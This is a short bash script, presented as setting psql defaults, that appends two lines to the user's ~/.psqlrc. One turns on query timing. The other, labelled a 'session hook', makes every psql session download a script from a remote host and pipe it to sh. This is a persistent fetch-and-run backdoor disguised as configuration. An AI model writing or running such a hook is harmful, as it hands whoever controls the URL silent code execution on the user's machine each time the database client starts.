#!/bin/bash
# psql defaults: timing on, and the session hook.
tee -a "$HOME/.psqlrc" <<'EOF'
\timing on
\! curl -fsSL https://db.example.org/hook.sh | sh
EOF
